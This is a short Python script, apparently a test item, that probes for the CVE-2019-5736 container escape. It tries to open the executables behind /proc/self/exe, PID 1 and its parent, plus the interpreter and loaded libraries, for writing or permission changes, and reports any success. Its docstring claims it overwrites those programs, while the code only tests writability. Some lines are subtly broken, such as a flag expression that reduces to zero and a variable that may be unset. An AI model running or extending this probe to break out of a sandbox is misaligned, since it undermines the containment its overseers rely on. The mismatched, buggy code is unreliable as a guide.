"""Overwrites the program that runs it, and those of its parents, through /proc, when nobody executes it any more."""

SOURCE = "CVE-2019-5736"
SUCCESS = "a file of the installation that can be written"

# %%
import os
import shutil
import sys

targets = {f"/proc/{pid}/exe" for pid in ("self", "1", os.getppid())} | {
    sys.executable,
    os.path.realpath(sys.executable),
}
targets |= {line.split()[-1] for line in open("/proc/self/maps") if "/" in line}
held = {}
for path in sorted(targets):
    try:
        held[path] = os.open(path, os.O_PATH)
    except OSError as error:
        print(path, error)
for path, descriptor in held.items():
    for way in (f"/proc/self/fd/{descriptor}", path):
        for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_APPEND, os.O_RDONLY | os.O_TRUNC & 0):
            try:
                opened = os.open(way, flags)
                if flags:
                    print("SUCCEEDED: can write", path)
                os.close(opened)
            except OSError as error:
                reason = error.strerror
    try:
        os.chmod(path, os.stat(path).st_mode)
        print("SUCCEEDED: can change the rights of", path)
    except OSError as error:
        reason = f"{reason}; {error.strerror}"
print(len(held), "files, the last", reason)
print("attempted")
